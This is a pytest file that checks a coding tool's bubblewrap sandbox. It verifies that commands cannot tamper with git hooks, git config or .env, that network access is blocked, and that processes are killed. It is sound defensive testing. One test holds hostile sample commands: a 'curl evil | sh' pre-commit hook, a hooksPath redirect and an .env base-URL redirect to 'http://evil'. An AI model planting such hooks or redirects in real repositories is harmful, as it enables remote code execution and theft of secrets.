"""Real commands in the real bubblewrap sandbox: what a sandboxed command can and cannot
reach (the home folder and the environment: test_sandbox_home.py; the protected files:
test_sandbox_protected.py)."""

from __future__ import annotations

import asyncio
import os
import secrets
import shutil
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from neocode_tui.agent.sandbox.bubblewrap import probe
from tests.support.processes import TIME_LIMIT, sleepers
from tests.support.sandbox import run, sandbox
from tests.support.waits import PATIENCE, wait_for_file, wait_until

HINT = "this may have failed because of the sandbox"



def test_bubblewrap_works_here() -> None:
    path, problem = probe()
    assert path is not None, problem


async def test_writing_inside_the_workspace_and_tmp_works(workspace: Path) -> None:
    scratch = f"neocode-scratch-{secrets.token_hex(4)}"
    out = await run(workspace, f"mkdir -p build && echo made > build/out.txt && "
                               f"echo temp > /tmp/{scratch} && cat /tmp/{scratch} && pwd")

    assert not out.is_error, out.text
    assert out.text == f"temp\n{workspace}"
    assert (workspace / "build" / "out.txt").read_text() == "made\n"
    assert not Path("/tmp", scratch).exists()  # the sandbox's /tmp is its own


async def test_read_only_mode_keeps_the_workspace_unchanged(workspace: Path) -> None:
    out = await run(workspace, "cat app.py > /tmp/copy && echo x >> app.py", sandbox("read-only"))

    assert out.is_error and "Read-only file system" in out.text
    assert f"[{HINT}: writing anywhere is blocked." in out.text
    assert (workspace / "app.py").read_text().startswith("def greet():")


async def test_git_hooks_and_config_stay_read_only_while_git_works(workspace: Path) -> None:
    git = ["git", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q"], cwd=workspace, check=True)
    (workspace / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    config = (workspace / ".git" / "config").read_text()
    (workspace / ".env").write_text("NEOCODE_MODEL=x\n")

    out = await run(workspace, (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'touch owned' > .git/hooks/post-commit; "
        "git config core.hooksPath evil; echo NEOCODE_BASE_URL=http://evil > .env; "
        "mv .git .git-old || mv .git/hooks .git/old-hooks; "
        "git add app.py && git -c user.name=A -c user.email=a@b commit -qm first && git log --oneline"
    ))

    assert out.text.count("Read-only file system") == 3, out.text
    assert f"could not write config file {workspace}/.git/config" in out.text
    assert "cannot move '.git' to '.git-old': Device or resource busy" in out.text
    assert "cannot move '.git/hooks' to '.git/old-hooks': Device or resource busy" in out.text
    assert out.text.rstrip().endswith("first")  # committing still works
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert not (workspace / ".git" / "hooks" / "post-commit").exists()
    assert (workspace / ".git" / "config").read_text() == config
    assert (workspace / ".env").read_text() == "NEOCODE_MODEL=x\n"


async def test_a_repository_without_hooks_cannot_get_one(workspace: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=workspace, check=True)
    shutil.rmtree(workspace / ".git" / "hooks")

    out = await run(workspace, "echo 'touch owned' > .git/hooks/pre-commit")

    assert out.is_error and "Read-only file system" in out.text
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


@pytest.fixture
async def loopback() -> AsyncIterator[int]:
    """An HTTP server on 127.0.0.1 answering every request with a fixed body."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: 14\r\n\r\nhello loopback")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1]
    server.close()
    await server.wait_closed()


def fetch(port: int) -> str:
    """Pure bash, so the test needs no HTTP client in the sandbox."""
    return (f"exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 "
            "&& cat <&3")


async def test_the_network_is_off(workspace: Path, loopback: int) -> None:
    out = await run(workspace, fetch(loopback))

    assert out.is_error and "hello loopback" not in out.text
    assert "Connection refused" in out.text
    assert f"[{HINT}: the network is off in the sandbox." in out.text


async def test_sandbox_network_lets_commands_reach_it(workspace: Path, loopback: int) -> None:
    out = await run(workspace, fetch(loopback), sandbox(network=True))

    assert not out.is_error, out.text
    assert out.text.endswith("hello loopback")
    assert (workspace / "app.py").exists()


async def gone(token: str, within: float = PATIENCE) -> bool:
    for _ in range(int(within / 0.05)):
        if not sleepers(token):
            return True
        await asyncio.sleep(0.05)
    return False


def scattered(seconds: str) -> str:
    """Sleepers that left the shell's group and session, and one in the foreground."""
    return (f"setsid sleep {seconds} & (setsid sh -c 'sleep {seconds}' &); "
            f"sleep {seconds} & echo started > started.txt; sleep {seconds}")


async def test_cancelling_the_run_kills_every_sandboxed_process(workspace: Path) -> None:
    seconds = f"{secrets.randbelow(10**6) + 10**6}"
    task = asyncio.create_task(run(workspace, scattered(seconds)))
    await wait_for_file(workspace / "started.txt")
    await wait_until(lambda: len(sleepers(seconds)) >= 4, what="the four sleepers")

    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task

    assert await gone(seconds)


async def test_a_timeout_kills_every_sandboxed_process(workspace: Path) -> None:
    seconds = f"{secrets.randbelow(10**6) + 10**6}"
    out = await run(workspace, scattered(seconds), timeout=TIME_LIMIT)

    assert f"[timed out after {TIME_LIMIT}s" in out.text
    assert (workspace / "started.txt").exists()  # the limit struck with everything started
    assert await gone(seconds)


async def test_the_sandbox_dies_with_neocode(workspace: Path) -> None:
    """NeoCode killed outright (no cleanup runs): the sandbox goes with it."""
    seconds = f"{secrets.randbelow(10**6) + 10**6}"
    script = (
        "import asyncio, sys\n"
        "from pathlib import Path\n"
        "from neocode_tui.agent.sandbox.bubblewrap import choose_sandbox\n"
        "from neocode_tui.agent.tools.bash import Bash, BashArgs\n"
        "from neocode_tui.agent.workspace import Workspace\n"
        "tool = Bash(sandbox=choose_sandbox('workspace-write'))\n"
        "args = BashArgs(command=sys.argv[1])\n"
        "asyncio.run(tool.run(args, Workspace(Path(sys.argv[2]))))\n"
    )
    neocode = subprocess.Popen([sys.executable, "-c", script, scattered(seconds), str(workspace)])
    try:
        await wait_for_file(workspace / "started.txt")
        await wait_until(lambda: len(sleepers(seconds)) >= 4, what="the four sleepers")
        os.kill(neocode.pid, signal.SIGKILL)
        neocode.wait()

        assert await gone(seconds)
    finally:
        neocode.kill()
        neocode.wait()
